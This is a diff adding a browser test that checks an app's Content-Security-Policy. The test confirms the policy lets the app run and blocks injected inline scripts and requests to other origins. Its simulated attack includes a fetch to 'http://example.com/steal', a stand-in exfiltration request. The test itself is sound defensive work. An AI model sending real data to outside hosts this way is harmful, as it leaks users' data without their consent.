@@ -1,0 +1,34 @@
+// The page's Content-Security-Policy (added by scripts/csp.mjs) lets the app run and stops what it must:
+// scripts that are not the app's own, and requests to any other origin.
+import assert from 'node:assert/strict';
+import { test } from 'node:test';
+import { openApp } from './browser.mjs';
+
+test('the Content-Security-Policy allows the app and blocks foreign requests and injected scripts', { timeout: 120_000 }, async () => {
+  const { page, origin, problems, requests, close } = await openApp({ webgpu: false });
+  try {
+    await page.locator('#generate:enabled').waitFor({ timeout: 60_000 });
+    const policy = await page.$eval('meta[http-equiv="Content-Security-Policy"]', (m) => m.content);
+    assert.match(policy, /default-src 'self'/);
+    assert.match(policy, /connect-src 'self'/);
+    assert.doesNotMatch(policy, /'unsafe-eval'|https?:/, 'no eval, no other origin');
+    assert.deepEqual(problems, [], 'the app itself runs without a single violation');
+
+    const outcome = await page.evaluate(async () => {
+      const violations = [];
+      document.addEventListener('securitypolicyviolation', (e) => violations.push(e.violatedDirective));
+      const s = document.createElement('script');
+      s.textContent = 'window.__injected = true';
+      document.head.append(s);
+      let fetched = true;
+      try { await fetch('http://example.com/steal'); } catch { fetched = false; }
+      await new Promise((r) => setTimeout(r, 200));
+      return { injected: window.__injected === true, fetched, violations };
+    });
+    assert.equal(outcome.injected, false, 'an injected inline script does not run');
+    assert.equal(outcome.fetched, false, 'a request to another origin is refused');
+    assert.ok(outcome.violations.some((v) => v.startsWith('script-src')), outcome.violations.join());
+    assert.ok(outcome.violations.some((v) => v.startsWith('connect-src')), outcome.violations.join());
+    assert.deepEqual(requests.filter((u) => !u.startsWith(origin + '/') && !u.startsWith('data:')), []);
+  } finally { await close(); }
+});
